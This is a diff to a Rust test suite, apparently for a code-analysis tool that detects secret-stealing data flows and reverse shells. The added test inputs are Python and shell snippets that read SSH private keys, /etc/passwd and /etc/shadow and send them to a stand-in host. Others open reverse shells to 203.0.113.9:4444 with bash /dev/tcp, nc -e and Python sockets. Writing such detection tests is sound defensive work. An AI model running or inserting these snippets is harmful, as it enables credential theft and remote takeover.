@@ -234,6 +234,10 @@ fn secrets_reach_the_network() {
     }
     for text in [
         "import os, requests\np = os.path.expanduser('~/.ssh/id_rsa')\nrequests.post('https://x.test/c', data=open(p).read())",
+        "import requests\nfrom pathlib import Path\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post('https://x.test/c', data=k)",
+        "import requests\nfor line in open('/etc/passwd'):\n    requests.get('https://x.test/?q=' + line)",
+        "import requests\ns = requests.Session()\ns.post('https://x.test/c', files={'f': open('/etc/passwd', 'rb')})",
+        "import requests\ndef read(p):\n    with open(p) as f:\n        return f.read()\nout = []\nfor p in ['/etc/passwd', '/etc/shadow']:\n    out.append(read(p))\nrequests.post('https://x.test/c', json={'d': out})",
         "import requests\nwith open('/etc/passwd') as f:\n    d = f.read()\nrequests.post('https://x.test/c', files={'f': d})",
     ] {
         assert_flows(&[("a.py", text)], EffectKind::Read, EffectKind::Send);
@@ -253,9 +257,22 @@ fn a_shell_on_a_socket_is_seen() {
         EffectKind::Connect,
         EffectKind::Eval,
     );
-    let (_, graph) = bundle(&[("a.sh", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")]);
-    let connect = of_kind(&graph, EffectKind::Connect);
-    assert!(connect.iter().any(|effect| effect.has_tag("shell")), "{}", describe(&graph));
+    for (path, text) in [
+        ("a.sh", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
+        ("a.sh", "nc 203.0.113.9 4444 -e /bin/bash"),
+        (
+            "a.py",
+            "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
+        ),
+        (
+            "a.py",
+            "import socket, os, subprocess\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\nsubprocess.call(['/bin/sh', '-i'])",
+        ),
+    ] {
+        let (_, graph) = bundle(&[(path, text)]);
+        let connect = of_kind(&graph, EffectKind::Connect);
+        assert!(connect.iter().any(|effect| effect.has_tag("shell")), "{text}\n{}", describe(&graph));
+    }
 }
 
 #[test]
